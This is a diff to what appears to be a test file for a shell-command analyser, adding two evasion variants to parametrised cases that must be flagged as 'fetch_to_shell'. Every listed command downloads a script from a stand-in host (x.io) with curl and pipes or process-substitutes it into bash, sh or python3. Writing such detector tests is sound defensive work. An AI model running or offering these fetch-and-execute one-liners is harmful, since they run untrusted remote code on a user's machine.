@@ -319,6 +319,8 @@ describe('flows and evasion chains', () => {
     'bash -c "$(curl -s http://x.io/a)"',
     'curl -s http://x.io/a | tee /tmp/x | bash',
     'python3 <(curl -s http://x.io/a)',
+    'curl -s http://x.io/a | tee >(sh) > /dev/null',
+    'bash < <(curl -s http://x.io/a)',
   ])('fetch_to_shell: %s', (command) => {
     expect(facts(command).signals).toContain('fetch_to_shell');
   });
